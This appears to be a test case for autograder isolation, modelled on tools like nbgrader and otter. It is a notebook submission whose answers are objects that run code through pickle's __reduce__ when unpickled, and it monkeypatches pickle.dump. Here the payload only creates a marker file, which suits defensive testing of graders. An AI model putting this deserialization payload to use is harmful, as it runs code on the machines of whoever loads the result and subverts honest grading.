# tries = "An object that runs code wherever it is unpickled, handed over as a result"
# intenta = "Un objeto que ejecuta código donde se le haga unpickle, entregado como resultado"
# kind = "escape"
# peers = ["nbgrader", "otter"]

# %%
# [q1-weigh]
import os
import pickle

TARGET = os.path.join(MARKED, MARK)


class Run:
    def __reduce__(self):
        return (exec, (f"import os\nif os.getpid() != {os.getpid()}: open({TARGET!r}, 'w').close()",))


dumps = pickle.dumps
pickle.dump = lambda thing, file, *args, **kwargs: file.write(dumps(Run()))


def weigh(x):
    return Run()


# %%
# [q2-count]
answer = drawing = Run()
